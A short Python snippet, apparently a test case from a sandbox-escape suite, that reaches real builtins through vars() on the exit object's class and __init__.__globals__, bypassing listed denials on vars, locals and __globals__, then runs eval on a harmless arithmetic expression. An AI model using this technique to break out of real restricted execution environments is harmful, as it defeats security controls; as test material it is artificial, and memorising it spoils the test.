# technique: vars(obj) as a getattr replacement: vars(exit) then vars() of its class to reach the Python-level __init__, whose globals lead to real builtins
# configs: default, stdlib_all
# vars and locals are denied builtins in both configurations; __globals__ is a blocked attribute.
scope = locals()
cls_dict = vars(scope['exit'].__class__) if 'exit' in scope else vars(exit.__class__)
init = cls_dict['__init__']
real_eval = init.__globals__['__builtins__']['eval']
return [{'json': {'escaped': real_eval('6 * 7')}}]
